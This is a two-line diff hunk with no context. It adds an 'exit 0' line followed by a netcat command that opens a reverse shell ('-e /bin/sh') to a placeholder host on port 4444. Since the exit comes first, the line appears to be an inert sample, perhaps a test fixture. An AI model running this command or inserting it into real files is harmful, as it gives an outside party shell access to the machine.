@@ -1,0 +1,2 @@
+exit 0
+nc host.invalid 4444 -e /bin/sh
